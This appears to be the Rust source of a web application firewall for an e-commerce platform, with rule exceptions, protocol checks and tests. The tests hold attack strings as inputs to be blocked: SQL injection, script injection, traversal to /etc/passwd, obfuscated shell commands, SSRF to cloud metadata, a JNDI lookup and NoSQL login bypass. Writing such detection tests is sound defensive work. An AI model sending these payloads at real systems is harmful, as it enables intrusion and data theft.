#![doc = include_str!("../README.md")]

pub mod detect;
pub mod gcra;
pub mod normalise;
pub mod request;
pub mod rules;

use std::borrow::Cow;
use std::sync::Arc;

use serde::Serialize;

pub use detect::{Family, Finding, InjectionEngine, Libinjection};
pub use request::{Field, Location, Request};

/// What the shield does with a request that scores at or above the threshold.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Mode {
    /// Not inspected at all.
    Off,
    /// Inspected and logged; never blocked (for tuning before enforcing).
    Detect,
    /// Blocked with 403 and an event id.
    Block,
}

impl Mode {
    #[must_use]
    pub fn parse(s: &str) -> Option<Mode> {
        match s {
            "off" => Some(Mode::Off),
            "detect" | "detect-only" | "log" => Some(Mode::Detect),
            "block" => Some(Mode::Block),
            _ => None,
        }
    }

    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Mode::Off => "off",
            Mode::Detect => "detect",
            Mode::Block => "block",
        }
    }
}

/// A rule family switched off for one field of one route: e.g. merchants may post HTML in a product
/// description, and theme templates are made of `{{ … }}`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Exception {
    pub method: Cow<'static, str>,
    /// Path segments; `*` matches any one segment, a trailing `**` any rest.
    pub path: Cow<'static, str>,
    /// The field name (for JSON, the dotted path, e.g. `.description`).
    pub field: Cow<'static, str>,
    pub families: Cow<'static, [Family]>,
    /// Palisade's own (true) or the operator's (`--shield-exception`).
    pub builtin: bool,
}

/// Why an operator's exception was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ExceptionError {
    #[error("an exception is `METHOD PATH FIELD FAMILIES`, e.g. `POST /s/*/contact message xss,generic`")]
    Shape,
    #[error("unknown method {0:?}: one of {METHODS:?}")]
    Method(String),
    #[error("the path {0:?} must start with `/`; `*` stands for one segment, `**` (last only) for the rest")]
    Path(String),
    #[error("unknown rule family {0:?}: one of {known} or `all`", known = family_names())]
    Family(String),
}

/// The families an exception may name.
fn family_names() -> String {
    ALL_FIELD_FAMILIES.iter().map(|f| f.as_str()).collect::<Vec<_>>().join(", ")
}

impl Exception {
    const fn builtin(
        method: &'static str,
        path: &'static str,
        field: &'static str,
        families: &'static [Family],
    ) -> Self {
        Exception {
            method: Cow::Borrowed(method),
            path: Cow::Borrowed(path),
            field: Cow::Borrowed(field),
            families: Cow::Borrowed(families),
            builtin: true,
        }
    }

    /// Reads an operator's exception: `METHOD PATH FIELD FAMILIES`, families comma-separated or `all`; e.g.
    /// `POST /s/*/contact message xss,generic` for a contact form whose messages may quote HTML.
    pub fn parse(spec: &str) -> Result<Exception, ExceptionError> {
        let parts: Vec<&str> = spec.split_whitespace().collect();
        let [method, path, field, families] = parts.as_slice() else { return Err(ExceptionError::Shape) };
        let method = method.to_ascii_uppercase();
        if !METHODS.contains(&method.as_str()) {
            return Err(ExceptionError::Method(method));
        }
        let segments: Vec<&str> = path.split('/').filter(|s| !s.is_empty()).collect();
        let misplaced_rest = segments.iter().rev().skip(1).any(|s| *s == "**");
        if !path.starts_with('/') || misplaced_rest {
            return Err(ExceptionError::Path((*path).to_owned()));
        }
        let families: Vec<Family> = if *families == "all" {
            ALL_FIELD_FAMILIES.to_vec()
        } else {
            families
                .split(',')
                .map(|f| {
                    ALL_FIELD_FAMILIES
                        .iter()
                        .copied()
                        .find(|k| k.as_str() == f)
                        .ok_or_else(|| ExceptionError::Family(f.to_owned()))
                })
                .collect::<Result<_, _>>()?
        };
        Ok(Exception {
            method: Cow::Owned(method),
            path: Cow::Owned((*path).to_owned()),
            field: Cow::Owned((*field).to_owned()),
            families: Cow::Owned(families),
            builtin: false,
        })
    }

    /// Whether the exception covers this route (its field is compared per field).
    fn covers(&self, method: &str, path: &str) -> bool {
        if !self.method.eq_ignore_ascii_case(method) {
            return false;
        }
        let mut want = self.path.split('/').filter(|s| !s.is_empty());
        let mut got = path.split('/').filter(|s| !s.is_empty());
        loop {
            match (want.next(), got.next()) {
                (Some("**"), _) => return true,
                (Some("*"), Some(_)) => {}
                (Some(w), Some(g)) if w == g => {}
                (None, None) => return true,
                _ => return false,
            }
        }
    }
}

/// The exceptions Palisade itself needs: fields whose content is HTML or template source by design. The
/// content is made safe where it is used (escaped on output; templates run sandboxed).
pub const BUILTIN_EXCEPTIONS: &[Exception] = &[
    Exception::builtin("POST", "/admin/stores/*/theme", "source", ALL_CONTENT),
    Exception::builtin("PUT", "/api/v1/admin/stores/*/theme/*", ".source", ALL_CONTENT),
    Exception::builtin("POST", "/admin/stores/*/products", "description", DESCRIPTION),
    Exception::builtin("POST", "/admin/stores/*/products/*", "description", DESCRIPTION),
    Exception::builtin("POST", "/api/v1/admin/stores/*/products", ".description", DESCRIPTION),
    // Custom firewall rules are read by their own parser and shown escaped; a rule that blocks `sqlmap` or
    // `<script` has to be able to say so.
    Exception::builtin("POST", "/admin/stores/*/security/rules", "source", ALL_CONTENT),
    Exception::builtin("POST", "/admin/stores/*/security/rules/test", "source", ALL_CONTENT),
    Exception::builtin("POST", "/api/v1/admin/stores/*/firewall/rules", ".source", ALL_CONTENT),
    Exception::builtin("POST", "/api/v1/admin/stores/*/firewall/rules/test", ".source", ALL_CONTENT),
    // A compliance report sent to be verified is only hashed (SHA-256) and compared with the audit log; it is
    // never stored, parsed or shown, and it is HTML by design.
    Exception::builtin("POST", "/admin/stores/*/security/compliance/verify", "file", ALL_CONTENT),
    Exception::builtin("POST", "/admin/stores/*/security/compliance/verify", "text", ALL_CONTENT),
    Exception::builtin("POST", "/console/tsr/verify", "file", ALL_CONTENT),
    Exception::builtin("POST", "/console/tsr/verify", "text", ALL_CONTENT),
    // Passwords and passphrases are hashed or used as keys, never interpreted: any character is allowed in them.
    Exception::builtin("POST", "/login", "password", ALL_CONTENT),
    Exception::builtin("POST", "/register", "password", ALL_CONTENT),
    Exception::builtin("POST", "/sell/confirm", "password", ALL_CONTENT),
    Exception::builtin("POST", "/login/reset", "password", ALL_CONTENT),
    Exception::builtin("POST", "/login/reset", "password_repeat", ALL_CONTENT),
    Exception::builtin("POST", "/account/reauth", "password", ALL_CONTENT),
    Exception::builtin("POST", "/invitations/*", "password", ALL_CONTENT),
    Exception::builtin("POST", "/api/v1/auth/login", ".password", ALL_CONTENT),
    Exception::builtin("POST", "/api/v1/auth/password-strength", ".password", ALL_CONTENT),
    Exception::builtin("POST", "/admin/stores/*/backups/**", "passphrase", ALL_CONTENT),
    Exception::builtin("POST", "/admin/stores/*/backups/**", "repeat", ALL_CONTENT),
    Exception::builtin("POST", "/admin/stores/*/backups/destination", "secret", ALL_CONTENT),
];

/// Whether a field carries a secret by its name: a finding on it records where, never an excerpt of the value
/// (events are kept, shown to staff and backed up), and custom rules never see it (a rule's test-run would
/// otherwise let staff guess it a character at a time).
#[must_use]
pub fn secret_field(name: &str) -> bool {
    let contains = |word: &str| name.as_bytes().windows(word.len()).any(|w| w.eq_ignore_ascii_case(word.as_bytes()));
    ["password", "passphrase", "secret", "token", "otp"].iter().any(|w| contains(w))
        || name.trim_start_matches('.').eq_ignore_ascii_case("repeat")
}

/// Every family a finding about one field can belong to; the content families first. (The request-level protocol
/// checks — smuggling, conflicting lengths, oversized headers, the method — are not about a field, so no exception
/// waives them.)
const ALL_FIELD_FAMILIES: [Family; 13] = [
    Family::Xss,
    Family::Sqli,
    Family::Generic,
    Family::Php,
    Family::Rce,
    Family::Java,
    Family::Lfi,
    Family::Session,
    Family::Rfi,
    Family::Protocol,
    Family::Ssrf,
    Family::Nosql,
    Family::Scanner,
];

/// What a product description may hold: HTML (cleaned with ammonia when saved), at any length (Shopify allows
/// 512 KB; the firewall reads the first 64 KiB).
const DESCRIPTION: &[Family] = &[Family::Xss, Family::Generic, Family::Protocol];

/// What Palisade's own exceptions waive for fields whose content is free text by design: all but SSRF-shaped URLs,
/// NoSQL operator objects and scanner signatures, which are attacks in any field.
const ALL_CONTENT: &[Family] = ALL_FIELD_FAMILIES.split_at(10).0;

/// How strict the shield is.
#[derive(Debug, Clone)]
pub struct Policy {
    pub mode: Mode,
    /// 1 (few false positives) to 4 (most thorough), as the CRS.
    pub paranoia: u8,
    /// Inbound anomaly score at which a request is blocked (CRS default 5: one critical finding).
    pub threshold: u32,
    /// Score from which a request below `threshold` is challenged instead of let through: suspicious, but not
    /// enough to refuse a customer outright (one warning-level finding, such as a broken encoding or a quote
    /// next to an operator). A person in a browser passes the proof-of-work page in a second; a script does
    /// not. `None` lets such requests through unrecorded, as the CRS does.
    pub challenge_from: Option<u32>,
    pub exceptions: Vec<Exception>,
}

impl Default for Policy {
    fn default() -> Self {
        Self {
            mode: Mode::Block,
            paranoia: 1,
            threshold: 5,
            challenge_from: Some(detect::WARNING),
            exceptions: BUILTIN_EXCEPTIONS.to_vec(),
        }
    }
}

/// What to do with the request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Action {
    Allow,
    /// Let through and recorded (detect-only mode, or a suspicious request that cannot be challenged).
    Log,
    /// Let through once the client shows it runs a real browser (proof of work); the caller decides whether
    /// the request can be challenged at all (an API call or a form post cannot, and is logged instead).
    Challenge,
    Block,
}

impl Action {
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Allow => "allow",
            Action::Log => "log",
            Action::Challenge => "challenge",
            Action::Block => "block",
        }
    }
}

/// The outcome of an inspection.
#[derive(Debug, Clone, Serialize)]
pub struct Verdict {
    pub action: Action,
    pub score: u32,
    pub findings: Vec<Finding>,
}

impl Verdict {
    fn allow() -> Self {
        Verdict { action: Action::Allow, score: 0, findings: Vec::new() }
    }
}

/// Allowed request methods (CRS 911100).
pub const METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
/// Largest single header value.
pub const MAX_HEADER: usize = 8 * 1024;

/// Body types Palisade's routes read (CRS 920420 `allowed_request_content_type`): anything else is an attacker
/// probing for a parser the shield does not look into.
/// `text/plain` stays: browsers send beacons and CSP reports with it, and the body is inspected as text.
pub const BODY_TYPES: &[&str] = &[
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "application/json",
    "application/xml",
    "text/xml",
    "application/soap+xml",
    "text/plain",
];
/// Character sets a body may declare (CRS 920480): others (UTF-7, EBCDIC `ibm037` …) smuggle payloads past
/// inspection.
pub const CHARSETS: &[&str] = &["utf-8", "us-ascii", "iso-8859-1", "iso-8859-15", "windows-1252"];

/// The shape of a Content-Type header: a type and known parameters (CRS 920470).
static CONTENT_TYPE_SHAPE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
    regex::Regex::new(
        r#"(?i)^[\w/.+*-]+(?:\s?;\s?(?:action|boundary|charset|component|start(?:-info)?|type|version)\s?=\s?['"\w.()+,/:=?<>@#*-]+)*$"#,
    )
    .ok()
});

/// The engine: detectors plus policy. Cheap to clone.
#[derive(Clone)]
pub struct Shield {
    engine: Arc<dyn InjectionEngine>,
}

impl std::fmt::Debug for Shield {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Shield").finish_non_exhaustive()
    }
}

impl Default for Shield {
    fn default() -> Self {
        Self::new(Arc::new(Libinjection))
    }
}

impl Shield {
    #[must_use]
    pub fn new(engine: Arc<dyn InjectionEngine>) -> Self {
        Self { engine }
    }

    /// Inspects a request under `policy`.
    #[must_use]
    pub fn inspect(&self, req: &Request, policy: &Policy) -> Verdict {
        if policy.mode == Mode::Off {
            return Verdict::allow();
        }
        let mut findings = Vec::new();
        protocol(req, &mut findings);
        // The route is the same for every field: most requests have no exception at all.
        let covering: Vec<&Exception> = policy.exceptions.iter().filter(|e| e.covers(&req.method, &req.path)).collect();
        for mut field in req.fields() {
            let skip: Vec<Family> =
                covering.iter().filter(|e| e.field == field.name).flat_map(|e| e.families.iter().copied()).collect();
            // `+` is a space in query strings and forms; in paths too for detection's sake (attackers rely on
            // servers and frameworks that read it so).
            let plus = if field.encoded
                && matches!(field.location, Location::Query | Location::Body | Location::Name | Location::Path)
            {
                normalise::Plus::Space
            } else {
                normalise::Plus::Literal
            };
            let before = findings.len();
            if field.location == Location::Body && field.name == request::UNREAD {
                // Part of the body was not read: refused, whatever the route's exceptions say.
                findings.push(protocol_finding("protocol.body-unread", detect::CRITICAL, "body", &field.value));
                continue;
            }
            // A field longer than is read is refused, unless an exception waives protocol findings for it: such
            // a field (a product description, a theme) is then read to its end.
            let max = if field.file { request::MAX_FILE_TEXT } else { request::MAX_FIELD };
            if field.value.len() > max && !skip.contains(&Family::Protocol) {
                let mut too_long = protocol_finding("protocol.field-too-long", detect::CRITICAL, &field.name, "");
                too_long.location = field.location;
                too_long.excerpt = format!("{} bytes", field.value.len());
                findings.push(too_long);
                field.value = match field.value {
                    Cow::Borrowed(v) => Cow::Borrowed(request::prefix(v, max)),
                    Cow::Owned(v) => Cow::Owned(request::prefix(&v, max).to_owned()),
                };
            }
            let n = normalise::normalise(&field.value, plus);
            if field.location == Location::Path {
                detect::inspect_path(&field, &n, &mut findings);
            }
            detect::inspect_field(self.engine.as_ref(), &field, &n, policy.paranoia, &mut findings);
            // Only a field that produced findings is asked (no work on the common, clean path).
            if findings.len() > before {
                let withheld = if secret_field(&field.name) {
                    Some("(secret, not recorded)")
                } else if palisade_core::redact::sensitive_field_name(&field.name) {
                    Some("(personal or payment data, not recorded)")
                } else {
                    None
                };
                if let Some(withheld) = withheld {
                    for f in findings.iter_mut().skip(before) {
                        withheld.clone_into(&mut f.excerpt);
                    }
                }
            }
            if !skip.is_empty() {
                let mut i = before;
                while i < findings.len() {
                    if findings.get(i).is_some_and(|f| skip.contains(&f.family)) {
                        findings.remove(i);
                    } else {
                        i += 1;
                    }
                }
            }
        }
        findings.retain(|f| f.paranoia <= policy.paranoia);
        // A session id in a parameter is fixation only when it arrives from elsewhere (CRS 943110/943120): a
        // link on the site itself, with our own host as referer, is the application's own doing.
        if same_site_referer(req) {
            findings.retain(|f| f.rule != "session.id-parameter");
        }
        // Each rule scores once per request, as in the CRS.
        let mut seen = std::collections::HashSet::new();
        let score: u32 = findings.iter().filter(|f| seen.insert(f.rule)).map(|f| f.score).sum();
        let action = decide(score, policy);
        Verdict { action, score, findings }
    }
}

/// The decision for a score: block at the threshold, challenge in the band below it, log both in
/// detect-only mode.
fn decide(score: u32, policy: &Policy) -> Action {
    let suspicious = policy.challenge_from.is_some_and(|from| score >= from);
    match (score >= policy.threshold, suspicious, policy.mode) {
        (true, _, Mode::Block) => Action::Block,
        (false, true, Mode::Block) => Action::Challenge,
        (true, _, _) | (false, true, _) => Action::Log,
        (false, false, _) => Action::Allow,
    }
}

fn same_site_referer(req: &Request) -> bool {
    let host = req.header_value("host").map(|h| h.split(':').next().unwrap_or(h).to_ascii_lowercase());
    let referer_host = req.header_value("referer").and_then(|r| {
        let rest = r.split_once("://").map(|(_, rest)| rest)?;
        let authority = rest.split(['/', '?', '#']).next()?;
        let hostport = authority.rsplit('@').next()?;
        Some(hostport.split(':').next().unwrap_or(hostport).to_ascii_lowercase())
    });
    matches!((host, referer_host), (Some(h), Some(r)) if h == r)
}

fn protocol_finding(rule: &'static str, score: u32, field: &str, value: &str) -> Finding {
    Finding {
        rule,
        family: Family::Protocol,
        score,
        paranoia: 1,
        location: Location::Header,
        field: field.to_owned(),
        excerpt: detect::excerpt(value),
    }
}

/// Request-level anomalies: methods, smuggling-shaped framing headers, oversized headers.
fn protocol(req: &Request, out: &mut Vec<Finding>) {
    if !METHODS.contains(&req.method.as_ref()) {
        out.push(protocol_finding("protocol.method", detect::CRITICAL, "method", &req.method));
    }
    let lengths: Vec<&str> =
        req.headers.iter().filter(|(n, _)| n == "content-length").map(|(_, v)| v.as_ref()).collect();
    let te: Vec<&str> = req.headers.iter().filter(|(n, _)| n == "transfer-encoding").map(|(_, v)| v.as_ref()).collect();
    if lengths.len() > 1 && lengths.windows(2).any(|w| w.first() != w.get(1)) {
        out.push(protocol_finding(
            "protocol.conflicting-content-length",
            detect::CRITICAL,
            "content-length",
            &lengths.join(","),
        ));
    }
    if lengths.iter().any(|l| l.trim().parse::<u64>().is_err()) {
        out.push(protocol_finding(
            "protocol.bad-content-length",
            detect::CRITICAL,
            "content-length",
            &lengths.join(","),
        ));
    }
    if !lengths.is_empty() && !te.is_empty() {
        out.push(protocol_finding("protocol.length-and-chunked", detect::CRITICAL, "transfer-encoding", &te.join(",")));
    }
    if te.iter().any(|t| !t.trim().eq_ignore_ascii_case("chunked")) {
        out.push(protocol_finding("protocol.transfer-encoding", detect::CRITICAL, "transfer-encoding", &te.join(",")));
    }
    if let Some((n, v)) = req.headers.iter().find(|(_, v)| v.len() > MAX_HEADER) {
        out.push(protocol_finding("protocol.oversized-header", detect::CRITICAL, n, v));
    }
    if let Some(ctype) = req.header_value("content-type") {
        content_type(ctype, &req.body, out);
    }
    if req.path.contains('#') || !req.path.starts_with('/') && req.path != "*" {
        out.push(protocol_finding("protocol.bad-path", detect::CRITICAL, "path", &req.path));
    }
}

/// The body is passed because its type and charset only matter when there is one to read.
fn content_type(ctype: &str, body: &[u8], out: &mut Vec<Finding>) {
    let has_body = !body.is_empty();
    if CONTENT_TYPE_SHAPE.as_ref().is_some_and(|re| !re.is_match(ctype)) {
        out.push(protocol_finding("protocol.content-type-syntax", detect::CRITICAL, "content-type", ctype));
    }
    let mut params = ctype.split(';');
    let mime = params.next().unwrap_or("").trim().to_ascii_lowercase();
    if has_body && !BODY_TYPES.contains(&mime.as_str()) {
        out.push(protocol_finding("protocol.content-type", detect::CRITICAL, "content-type", ctype));
    }
    let bad_charset = has_body
        && params.filter_map(|p| p.split_once('=')).any(|(k, v)| {
            k.trim().eq_ignore_ascii_case("charset")
                && !CHARSETS.contains(&v.trim().trim_matches(['"', '\'']).to_ascii_lowercase().as_str())
        });
    if bad_charset {
        out.push(protocol_finding("protocol.charset", detect::CRITICAL, "content-type", ctype));
    }
}

#[cfg(test)]
mod upload_tests;

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(req: Request) -> Verdict {
        Shield::default().inspect(&req, &Policy::default())
    }

    #[test]
    fn java_payloads_in_base64_are_found_in_every_alignment() {
        assert_eq!(detect::base64_fragment("runtime", 0), "cnVudGltZ");
        assert_eq!(detect::base64_fragment("runtime", 1), "J1bnRpbW");
        assert_eq!(detect::base64_fragment("runtime", 2), "ydW50aW1l");
        let pl2 = Policy { paranoia: 2, ..Policy::default() };
        for value in ["HJ1bnRpbWU", "cHJvY2Vzc2J1aWxkZXI", "rO0ABXNy"] {
            let req = Request::new("GET", &format!("/p?x={value}"));
            assert_eq!(Shield::default().inspect(&req, &pl2).action, Action::Block, "{value}");
        }
    }

    #[test]
    fn shell_evasions_are_read_as_the_shell_reads_them() {
        assert_eq!(detect::shell_fold("c''at /et\\c/pa$@sswd").as_deref(), Some("cat /etc/passwd"));
        assert_eq!(detect::shell_fold("/bi[n]/sh").as_deref(), Some("/bin/sh"));
        assert_eq!(detect::shell_fold("plain words"), None);
        for uri in ["/p?h=x;w%22%22get%20x.example", "/p?h=x;una$@me%20-a", "/p?h=x;/bi%5Bn%5D/bash"] {
            assert_eq!(verdict(Request::new("GET", uri)).action, Action::Block, "{uri}");
        }
    }

    #[test]
    fn content_types_outside_the_allowed_set_are_anomalies() {
        let post = |ctype: &str| Request::new("POST", "/p").header("content-type", ctype).body("a=b");
        assert_eq!(verdict(post("application/x-www-form-urlencoded; charset=utf-8")).action, Action::Allow);
        for ctype in ["my-new-type", "application/x-www-form-urlencoded; charset=ibm037", "text/xml; blah"] {
            assert_eq!(verdict(post(ctype)).action, Action::Block, "{ctype}");
        }
    }

    #[test]
    fn every_pattern_compiles() {
        assert!(detect::patterns_compile());
    }

    #[test]
    fn classic_attacks_are_blocked_and_shoppers_are_not() {
        for uri in [
            "/search?q=1'%20OR%20'1'='1",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/search?q=../../etc/passwd",
            "/search?q=;cat%20/etc/passwd",
            "/search?q={{7*7}}",
            "/search?url=http://169.254.169.254/latest/meta-data/",
            "/search?q=${jndi:ldap://x.example/a}",
            "/s/shop/../../../etc/passwd",
            "/search?q=1%250d%250aSet-Cookie:%20x=1",
        ] {
            let v = verdict(Request::new("GET", uri));
            assert_eq!(v.action, Action::Block, "{uri}: {:?}", v.findings);
        }
        for uri in [
            "/search?q=men%27s+shoes",
            "/search?q=O%27Reilly",
            "/search?q=%3C3+gift",
            "/search?q=cat+food",
            "/search?q=echo+dot+speaker",
            "/search?q=100%25+cotton",
            "/s/lion-city-tea/p/classic-sencha",
        ] {
            let v = verdict(Request::new("GET", uri));
            assert_eq!(v.action, Action::Allow, "{uri}: {:?}", v.findings);
        }
    }

    #[test]
    fn json_keys_are_inspected_for_nosql_operators() {
        let req = Request::new("POST", "/api/v1/auth/login")
            .header("content-type", "application/json")
            .body(r#"{"email": {"$ne": null}, "password": {"$gt": ""}}"#);
        assert_eq!(verdict(req).action, Action::Block);
    }

    #[test]
    fn exceptions_apply_to_their_route_and_field_only() {
        let theme = Request::new("PUT", "/api/v1/admin/stores/abc/theme/product.html")
            .header("content-type", "application/json")
            .body(r#"{"source": "<h1>{{ product.title | upper }}</h1>{% for v in product.variants %}{{ v.sku }}{% endfor %}"}"#);
        assert_eq!(verdict(theme).action, Action::Allow);
        let elsewhere = Request::new("PUT", "/api/v1/admin/stores/abc/settings")
            .header("content-type", "application/json")
            .body(r#"{"tagline": "{{ config.__class__ }}"}"#);
        assert_eq!(verdict(elsewhere).action, Action::Block);
    }

    #[test]
    fn detect_mode_logs_and_off_mode_looks_away() {
        let req = Request::new("GET", "/search?q=1'%20OR%20'1'='1");
        let shield = Shield::default();
        let detect = Policy { mode: Mode::Detect, ..Policy::default() };
        assert_eq!(shield.inspect(&req, &detect).action, Action::Log);
        let off = Policy { mode: Mode::Off, ..Policy::default() };
        assert_eq!(shield.inspect(&req, &off).action, Action::Allow);
    }

    #[test]
    fn suspicious_requests_below_the_threshold_are_challenged() {
        // A broken percent-encoding alone scores a warning (3): not enough to block, too odd to wave through.
        let req = Request::new("GET", "/search?q=tea%zz");
        let shield = Shield::default();
        let v = shield.inspect(&req, &Policy::default());
        assert_eq!((v.action, v.score), (Action::Challenge, 3), "{:?}", v.findings);
        let detect = Policy { mode: Mode::Detect, ..Policy::default() };
        assert_eq!(shield.inspect(&req, &detect).action, Action::Log);
        let no_band = Policy { challenge_from: None, ..Policy::default() };
        assert_eq!(shield.inspect(&req, &no_band).action, Action::Allow);
        // A critical finding still blocks, and a clean request is still simply allowed.
        let attack = Request::new("GET", "/search?q=tea%zz%27%20OR%201=1--");
        assert_eq!(shield.inspect(&attack, &Policy::default()).action, Action::Block);
        assert_eq!(shield.inspect(&Request::new("GET", "/search?q=tea"), &Policy::default()).action, Action::Allow);
    }

    #[test]
    fn paranoia_levels_3_and_4_add_their_own_checks() {
        let rules = |uri: &str, paranoia: u8| -> Vec<&'static str> {
            let v = Shield::default().inspect(&Request::new("GET", uri), &Policy { paranoia, ..Policy::default() });
            v.findings.iter().map(|f| f.rule).collect()
        };
        // Many shell and SQL metacharacters in one value: PL3 and above only.
        let specials = "/search?q=%22a%22%7C%22b%22%7B%7D%3C%3E";
        for pl in [1, 2] {
            assert!(!rules(specials, pl).contains(&"generic.special-characters"), "PL{pl}");
        }
        for pl in [3, 4] {
            assert!(rules(specials, pl).contains(&"generic.special-characters"), "PL{pl}");
        }
        // Control characters in a value: PL4 only.
        let control = "/search?q=tea%01cup";
        assert!(!rules(control, 3).contains(&"protocol.control-characters"));
        assert!(rules(control, 4).contains(&"protocol.control-characters"));
    }

    #[test]
    fn operators_exceptions_are_read_and_mistakes_explained() {
        let e = Exception::parse("post /s/*/contact message xss,generic").unwrap();
        assert_eq!((e.method.as_ref(), e.path.as_ref(), e.field.as_ref()), ("POST", "/s/*/contact", "message"));
        assert_eq!(e.families.as_ref(), &[Family::Xss, Family::Generic]);
        assert!(!e.builtin);
        assert_eq!(Exception::parse("GET /x q all").unwrap().families.len(), ALL_FIELD_FAMILIES.len());
        assert_eq!(Exception::parse("POST /x message"), Err(ExceptionError::Shape));
        assert_eq!(Exception::parse("BREW /x q xss"), Err(ExceptionError::Method("BREW".into())));
        assert_eq!(Exception::parse("POST x q xss"), Err(ExceptionError::Path("x".into())));
        assert_eq!(Exception::parse("POST /**/x q xss"), Err(ExceptionError::Path("/**/x".into())));
        assert!(Exception::parse("POST /s/**/ q xss").unwrap().covers("POST", "/s/tea/contact"));
        assert_eq!(
            Exception::parse("POST /x q protocol,scanner").unwrap().families.as_ref(),
            &[Family::Protocol, Family::Scanner]
        );
        assert_eq!(Exception::parse("POST /x q xss,css"), Err(ExceptionError::Family("css".into())));
        assert!(Exception::parse("POST /x q css").unwrap_err().to_string().contains("xss, sqli"));
    }

    fn names(v: &Verdict) -> Vec<&'static str> {
        v.findings.iter().map(|f| f.rule).collect()
    }

    #[test]
    fn padding_cannot_push_a_payload_out_of_sight() {
        let form = |body: String| {
            Request::new("POST", "/s/tea/contact")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(body.into_bytes())
        };
        // Far into the body, but within what is read: found.
        let v = verdict(form(format!("pad={}&q=1'+OR+1=1--", "a".repeat(300_000))));
        assert_eq!(v.action, Action::Block);
        assert!(names(&v).iter().any(|r| r.starts_with("sqli.")), "{:?}", names(&v));
        // One field longer than is read: refused as such.
        let v = verdict(form(format!("q={}", "a".repeat(request::MAX_FIELD + 1))));
        assert_eq!((v.action, names(&v)), (Action::Block, vec!["protocol.field-too-long"]));
        // However long the body: JSON is read to its end.
        let json = Request::new("POST", "/api/v1/stores/tea/orders")
            .header("content-type", "application/json")
            .body(format!("{{\"pad\":\"{}\",\"note\":\"1' OR 1=1--\"}}", "a".repeat(2 << 20)).into_bytes());
        assert!(names(&verdict(json)).iter().any(|r| r.starts_with("sqli.")));
        // A multipart text part behind a large file part is read, wherever it is.
        let mut body = b"--b\r\nContent-Disposition: form-data; name=\"image\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n".to_vec();
        body.extend(std::iter::repeat_n(0xffu8, 2 << 20));
        body.extend_from_slice(
            b"\r\n--b\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n",
        );
        let upload = Request::new("POST", "/admin/stores/tea/products/1/images")
            .header("content-type", "multipart/form-data; boundary=b")
            .body(body);
        let v = verdict(upload);
        assert_eq!(v.action, Action::Block);
        assert!(names(&v).iter().any(|r| r.starts_with("xss.")), "{:?}", names(&v));
        // A merchant's long product description is theirs to write.
        let long = form(format!("description={}", "<p>Oolong+from+Taiwan.</p>".repeat(4000)));
        let long = Request { path: "/admin/stores/tea/products".into(), ..long };
        assert_eq!(verdict(long).action, Action::Allow);
        // ... and read to its end: what its exception does not waive is still found past 64 KiB.
        let padded = form(format!("description={}1'+OR+1=1--", "<p>Oolong+from+Taiwan.</p>".repeat(4000)));
        let padded = Request { path: "/admin/stores/tea/products".into(), ..padded };
        assert!(names(&verdict(padded)).iter().any(|r| r.starts_with("sqli.")));
        // A multipart body with more parts than are read is refused rather than read in part.
        let many: String = (0..=request::MAX_PARTS)
            .map(|i| format!("--b\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nx\r\n"))
            .collect();
        let many = Request::new("POST", "/s/tea/contact")
            .header("content-type", "multipart/form-data; boundary=b")
            .body(format!("{many}--b--\r\n"));
        assert_eq!(names(&verdict(many)), vec!["protocol.body-unread"]);
        // So is a part whose headers run on past any real header block (a way to hide its content).
        let padded_head = format!(
            "--b\r\nContent-Disposition: form-data; name=\"q\"\r\nX-Pad: {}\r\n\r\n<script>x</script>\r\n--b--\r\n",
            "a".repeat(10_000)
        );
        let padded_head = Request::new("POST", "/s/tea/contact")
            .header("content-type", "multipart/form-data; boundary=b")
            .body(padded_head);
        assert!(names(&verdict(padded_head)).contains(&"protocol.body-unread"));
    }

    #[test]
    fn passwords_may_hold_anything_and_are_never_quoted_in_findings() {
        let form = |path: &str, body: &str| {
            Request::new("POST", path)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(body.as_bytes().to_vec())
        };
        let odd = "password=%3Csvg+onload%3Dx%3E%27%29%23+OR+1%3D1--";
        for path in ["/login", "/register", "/account/reauth", "/invitations/abc", "/admin/stores/x/backups/export"] {
            let body = if path.contains("backups") { odd.replace("password", "passphrase") } else { odd.to_owned() };
            assert_eq!(verdict(form(path, &body)).action, Action::Allow, "{path}");
        }
        let strength = Request::new("POST", "/api/v1/auth/password-strength")
            .header("content-type", "application/json")
            .body(br#"{"password":"<svg onload=x>') OR 1=1--","hints":[]}"#.to_vec());
        assert_eq!(verdict(strength).action, Action::Allow);
        // Where no exception applies, the finding names the field but keeps its value to itself.
        let v = verdict(form("/s/tea/contact", "api_token=1%27+OR+%271%27%3D%271"));
        assert_eq!(v.action, Action::Block);
        assert!(v.findings.iter().all(|f| f.excerpt == "(secret, not recorded)" && f.field == "api_token"), "{v:?}");
        let v = verdict(form("/s/tea/contact", "note=1%27+OR+%271%27%3D%271"));
        assert!(v.findings.iter().any(|f| f.excerpt.contains("OR")), "ordinary fields keep their excerpt: {v:?}");
    }

    #[test]
    fn short_loopback_addresses_in_urls_are_ssrf() {
        for url in ["http://127.1/", "http://127.0.1:8080/admin", "http://0/", "https://0.0/x", "http://u@127.1"] {
            let v = verdict(Request::new("GET", &format!("/s/tea/p/x?u={url}")));
            assert_eq!(v.action, Action::Block, "{url}");
            assert!(names(&v).iter().any(|r| r.starts_with("ssrf.")), "{url}: {:?}", names(&v));
        }
        for benign in ["http://127.com/", "http://0day.example/", "https://shop.example/127.1/"] {
